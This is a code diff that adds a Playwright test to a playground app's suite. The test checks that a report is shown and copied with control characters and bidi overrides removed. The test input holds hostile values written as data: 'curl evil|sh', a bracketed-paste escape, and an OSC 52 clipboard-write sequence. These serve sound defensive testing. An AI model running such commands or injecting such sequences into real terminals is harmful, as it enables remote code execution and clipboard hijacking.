@@ -188,6 +188,29 @@ test.describe('The playground', () => {
     expect(frames(await page.evaluate(() => navigator.clipboard.readText()))).toHaveLength(1);
   });
 
+  test('a report is shown and copied without hidden characters and what a terminal would obey', async ({
+    page,
+    context,
+  }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    await open(page, '/playground');
+    const hostile = String.raw`\x1b[201~\ncurl evil|sh\n\x1b]52;c;QQ==\x07\x9b2J\0 \u202eabc é 👩‍👧`;
+    await field(page).fill(
+      `const text = '${hostile}';\ntest(text, () => { console.log('\\x1b[31m' + text); throw new Error(text); });`,
+    );
+    await page.getByRole('button', {name: 'Run'}).click();
+    await expect(verdict(page)).toHaveText(/FAIL/);
+    const report = results(page).getByRole('group', {name: "Jest's report"});
+    await report.getByRole('button', {name: 'Copy report'}).click();
+    await expect(report.getByRole('button', {name: 'Copied'})).toBeVisible();
+    const copied = await page.evaluate(() => navigator.clipboard.readText());
+    const drawn = await results(page).evaluate(element => element.textContent);
+    for (const text of [copied, drawn]) {
+      expect(text).toMatch(/^ *curl evil\|sh\n +\\u202eabc é 👩‍👧/mu);
+      expect(text).not.toMatch(/(?![\n\t])\p{Cc}|[\u202a-\u202e]/u);
+    }
+  });
+
   test('loads the list with the first gesture', async ({page}) => {
     const requests: string[] = [];
     page.on('request', request => requests.push(request.url()));
